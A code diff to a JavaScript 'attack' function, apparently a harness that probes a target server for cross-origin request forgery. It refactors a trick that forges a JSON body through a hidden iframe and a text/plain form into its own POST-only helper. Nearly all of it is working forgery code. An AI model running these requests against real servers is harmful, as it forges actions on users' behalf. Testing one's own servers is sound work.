@@ -71,6 +71,20 @@ async function attack({ target, operations, body }) {
     }
     clearTimeout(deadline);
   };
+  // A form can send JSON as plain text.
+  const submit = async (path) => {
+    const frame = document.body.appendChild(document.createElement("iframe"));
+    frame.name = `frame of ${path}`;
+    const form = document.body.appendChild(document.createElement("form"));
+    Object.assign(form, { method: "post", enctype: "text/plain", action: target + path, target: frame.name });
+    const field = form.appendChild(document.createElement("input"));
+    field.name = `${text.slice(0, -1)},"x":"`;
+    field.value = '"}';
+    const sent = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
+    form.submit();
+    await Promise.race([sent, new Promise((resolve) => setTimeout(resolve, 2_000))]);
+    frame.remove();
+  };
   const everything = async ([method, path]) => {
     const what = `${method} ${path}`;
     const json = { "content-type": "application/json" };
@@ -81,18 +95,7 @@ async function attack({ target, operations, body }) {
       await attempt(`${what} no-cors`, { mode: "no-cors", ...(sends ? { body: new Blob([text]) } : {}) });
     }
     navigator.sendBeacon(target + path, new Blob([text]));
-    // A form can send JSON as plain text.
-    const frame = document.body.appendChild(document.createElement("iframe"));
-    frame.name = `frame of ${what}`;
-    const form = document.body.appendChild(document.createElement("form"));
-    Object.assign(form, { method: "post", enctype: "text/plain", action: target + path, target: frame.name });
-    const field = form.appendChild(document.createElement("input"));
-    field.name = `${text.slice(0, -1)},"x":"`;
-    field.value = '"}';
-    const sent = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
-    form.submit();
-    await Promise.race([sent, new Promise((resolve) => setTimeout(resolve, 2_000))]);
-    frame.remove();
+    if (method === "POST") await submit(path);
     const image = new Image();
     const loaded = new Promise((resolve) => {
       image.onload = () => resolve("shown");
